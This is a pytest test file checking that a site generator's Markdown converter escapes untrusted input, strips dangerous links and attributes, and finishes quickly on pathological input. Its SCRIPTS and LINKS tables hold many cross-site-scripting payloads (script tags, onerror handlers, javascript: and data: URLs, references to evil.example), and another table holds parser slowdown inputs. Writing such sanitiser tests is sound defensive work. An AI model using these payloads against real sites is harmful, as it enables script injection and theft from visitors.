"""Strangers' Markdown becomes harmless HTML, in bounded time."""

import pytest

from generator.emit.markup import escaped, prose, run_html, slot
from generator.limits import MAX_LINE_CHARS, MAX_PROSE_CHARS
from generator.pages.shown import BlankRun, LinkRun, TextRun, ValueRun
from tests.derive.builders import money
from tests.emit.html_parts import dangers, parts_of
from tests.timing import quickly

SCRIPTS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a script over lines": "<scr\nipt>alert(1)</scr\nipt>",
    "a script inside a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "an event handler": "<p onclick=alert(1)>x</p>",
    "an image that fails": "<img src=x onerror=alert(1)>",
    "a drawing": "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "a formula": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "a form": "<form action=https://evil.example><input name=q></form>",
    "a style": "<style>@import 'https://evil.example/x.css'</style><p style='position:fixed'>x</p>",
    "a comment that opens": "<!-- <script>alert(1)</script> -->",
    "a comment that breaks off": "<!--><script>alert(1)</script>",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "an instruction": "<?php echo 1 ?><!DOCTYPE html><meta http-equiv=refresh content=0>",
    "a tag without an end": "<a href='https://evil.example",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "an open fence": "```html\n<script>alert(1)</script>",
    "code with a language": '``` {onclick="alert(1)"}\n<b>\n```',
    "attributes in braces": '# Title {onclick="alert(1)" .x #y}',
    "Markdown inside HTML": '<div markdown="1">*x* <script>alert(1)</script></div>',
    "a template": "{{ config }} {% include 'x' %} {# x #} ${7*7}",
    "a stash mark of the converter": "\x02wzxhzdk:0\x03 \x02klzzwxh:0\x03 \x02amp\x03",
}

LINKS = {
    "javascript": "[x](javascript:alert(1))",
    "javascript in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript with a tab": "[x](java\tscript:alert(1))",
    "javascript with a line end": "[x](java\nscript:alert(1))",
    "javascript behind a control": "[x](\x01javascript:alert(1))",
    "javascript in entities": "[x](&#106;avascript&#58;alert(1))",
    "javascript in brackets": "[x](<javascript:alert(1)>)",
    "javascript by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript as an automatic link": "<javascript:alert(1)>",
    "data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": "[x](vbscript:msgbox(1))",
    "a file": "[x](file:///etc/hostname)",
    "a title with an attribute": '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "an address with an attribute": '[x](https://example.org/"onmouseover="alert(1))',
    "a picture": "![x](https://evil.example/who-reads.png)",
    "a picture with a script": "![x](javascript:alert(1))",
    "a picture by reference": '![x][y]\n\n[y]: https://evil.example/x.png "onerror=alert(1)"',
    "a picture in a link": "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "a link in a link": "[a [b](javascript:alert(1)) c](https://example.org)",
    "an address ending in a tag": "<https://example.org/\"onmouseover='alert(1)'>",
}


@pytest.mark.parametrize("payload", SCRIPTS.values(), ids=list(SCRIPTS))
def test_no_markup_of_a_stranger_is_active(payload: str):
    assert dangers(prose((payload,))) == []
    assert dangers(prose((f"* {payload}\n\n> {payload}\n\n    {payload}",))) == []


@pytest.mark.parametrize("payload", LINKS.values(), ids=list(LINKS))
def test_no_link_of_a_stranger_runs_or_fetches_anything(payload: str):
    assert dangers(prose((payload,))) == []
    assert dangers(prose((f"| a | b |\n| --- | --- |\n| {payload} | x |",))) == []


@pytest.mark.parametrize("payload", (SCRIPTS | LINKS).values(), ids=list(SCRIPTS | LINKS))
def test_no_stranger_chooses_an_attribute(payload: str):
    allowed = {("a", "href"), ("a", "rel"), ("ol", "start"), ("div", "class"), ("div", "tabindex")}
    assert {(tag, name) for tag, name, _ in parts_of(prose((payload,))).attributes} <= allowed


def test_html_is_shown_as_the_text_that_it_is():
    assert parts_of(prose(("<b>bold</b> & <i>",))).text == "<b>bold</b> & <i>"


def test_a_template_stays_text():
    assert "{{ 7 * 7 }}" in prose(("{{ 7 * 7 }}",))


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        pytest.param("*a* **b**", "<p><em>a</em> <strong>b</strong></p>", id="emphasis"),
        pytest.param("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>", id="a list"),
        pytest.param("3. a", '<ol start="3">\n<li>a</li>\n</ol>', id="a list that starts later"),
        pytest.param("> a", "<blockquote>\n<p>a</p>\n</blockquote>", id="a quotation"),
        pytest.param("### a", "<h3>a</h3>", id="a heading below the page's own"),
        pytest.param(
            "### a\n### b\nc", "<h3>a</h3>\n<h3>b</h3>\n<p>c</p>", id="headings without a blank line"
        ),
        pytest.param("# a", "a", id="a heading above them loses its rank"),
        pytest.param(
            "[a](https://example.org)",
            '<p><a href="https://example.org" rel="noopener nofollow ugc">a</a></p>',
            id="a link",
        ),
    ],
)
def test_harmless_markdown(markdown: str, html: str):
    assert prose((markdown,)) == html


def test_a_table_can_be_scrolled_and_keeps_pipes_within_code():
    html = prose(("| a | b |\n| --- | --- |\n| `x \\| y` | z |",))
    assert html.startswith('<div class="cg-scroll" tabindex="0"><table>')
    assert html.count("<td>") == 2


RUNS = {
    "text": (TextRun("<b>&"), "&lt;b&gt;&amp;"),
    "a blank": (
        BlankRun('"><b>'),
        "<mark>[&#34;&gt;&lt;b&gt;]</mark>",
    ),
    "a figure": (ValueRun(money("80K")), "<b>€80K</b>"),
    "words for a figure": (ValueRun("<i>"), "<b>&lt;i&gt;</b>"),
    "a link": (LinkRun('<"', '#"x'), '<a href="#&#34;x">&lt;&#34;</a>'),
}


@pytest.mark.parametrize(("run", "html"), RUNS.values(), ids=list(RUNS))
def test_every_kind_of_run_is_escaped(run: TextRun | BlankRun | ValueRun | LinkRun, html: str):
    assert run_html(run) == html
    assert prose(("a ", run, " b")) == f"<p>a {html} b</p>"


def test_markdown_cannot_forge_a_slot():
    pieces = (slot(0), " and ", "\ue0000\ue001", ValueRun("the figure"), "\ue000", "0", "\ue001")
    assert prose(pieces).count("the figure") == 1


@pytest.mark.parametrize(
    "pieces",
    [
        pytest.param(("[x](https://example.org/", BlankRun("a"), ")"), id="in an address"),
        pytest.param(
            ("[x](https://example.org/>", BlankRun("a"), ")"), id="behind a tag's end in an address"
        ),
        pytest.param(("[x](<https://example.org/ > ", BlankRun("a"), ">)"), id="in an address in brackets"),
        pytest.param(("<https://example.org/", BlankRun("a"), ">"), id="in an automatic link"),
        pytest.param(('[x](https://example.org "', BlankRun("a"), '")'), id="in a title"),
        pytest.param(("[x][", BlankRun("a"), "]"), id="in a reference"),
    ],
)
def test_a_reference_inside_an_address_cannot_break_out_of_it(pieces: tuple[str | BlankRun, ...]):
    html = prose(pieces)
    found = parts_of(html)
    assert {(tag, name) for tag, name, _ in found.attributes} <= {("a", "href"), ("a", "rel")}
    assert not any("mark" in value for tag, _, value in found.attributes if tag == "a")


def test_a_reference_in_code_shows_what_it_refers_to():
    assert prose(("`", ValueRun("10"), "`")) == "<p><code><b>10</b></code></p>"


SLOW = {
    "open brackets": "[",
    "open pictures": "![",
    "links that never end": "[a](",
    "links with open addresses": "[a](<b",
    "links with open titles": '[a](b "',
    "brackets and parentheses": "[](",
    "brackets both ways": "[" * 3_000 + "]" * 3_000,
    "references": "[x][y]",
    "definitions": "[a]: <b>\n",
    "stars": "*",
    "stars and letters": "*a",
    "stars and lines": "**a_",
    "stars and underscores": "*_",
    "backticks": "`",
    "growing backticks": " ".join("`" * size for size in range(1, 340)),
    "quotations": ">",
    "quotations with blanks": "> ",
    "lists in one line": "- ",
    "lists of stars in one line": "* ",
    "lists of lists in one line": "1. - ",
    "numbers in one line": "1. ",
    "rules that are none": "-   ",
    "lists below tabs": "\n".join("\t" * depth + "- a" for depth in range(340)),
    "quotations of lists": "> - a\n",
    "deep quotations": "\n".join("> " * depth + "a" for depth in range(1, 200)),
    "deep lists": "\n".join("    " * depth + "- a" for depth in range(150)),
    "numbers": "1. a\n",
    "angle brackets": "<",
    "comments": "<!--",
    "instructions": "<?",
    "addresses": "<https://",
    "entities": "&",
    "backslashes": "\\",
    "escaped brackets": "\\[",
    "pipes": "|",
    "wide tables": f"|{'a|' * 2_900}\n|{'-|' * 2_900}\n",
    "long tables": "| a | b |\n| --- | --- |\n| c | d |\n",
    "blanks": " ",
    "line ends": "\n",
    "short lines": "a\n",
    "headings": "# a\n",
    "underlined headings": "a\n=\n",
    "code": "    a\n\n",
}
"""What makes converters of Markdown slow; each is repeated until it reaches the limits of the loader."""


def filled(payload: str) -> str:
    """A whole prose file of a payload, each line as long as a line may be."""
    line = payload if "\n" in payload else (payload * MAX_LINE_CHARS)[:MAX_LINE_CHARS] + "\n"
    return (line * (MAX_PROSE_CHARS // len(line) + 1))[:MAX_PROSE_CHARS]


@pytest.mark.parametrize("payload", SLOW.values(), ids=list(SLOW))
def test_no_text_within_the_limits_takes_long(payload: str):
    with quickly():
        prose((filled(payload),))


def test_escaping_covers_attributes():
    assert escaped('<a href="x">\'&') == "&lt;a href=&#34;x&#34;&gt;&#39;&amp;"


@pytest.mark.parametrize(
    "address",
    [
        pytest.param("//evil.example/", id="a host without a scheme"),
        pytest.param("/\\evil.example/", id="the same for browsers"),
        pytest.param("https://example.org@evil.example/", id="a user who looks like a host"),
        pytest.param("https://example.org\\@evil.example/", id="a host that ends at a backslash"),
        pytest.param("https://аррӏе.example/", id="letters that look like others"),
        pytest.param("/pay/", id="the top of a host on which the site may be a folder"),
    ],
)
def test_a_link_that_hides_where_it_leads_is_shown_as_its_words(address: str):
    assert prose((f"[x]({address})",)) == '<p><a rel="noopener nofollow ugc">x</a></p>'


@pytest.mark.parametrize(
    "address",
    [
        "https://example.org/a?b=c#d",
        "HTTP://example.org:8080",
        "mailto:a@example.org",
        "#pay",
        "../../roles/",
    ],
)
def test_a_plain_address_stays(address: str):
    assert prose((f"[x]({address})",)) == f'<p><a href="{address}" rel="noopener nofollow ugc">x</a></p>'
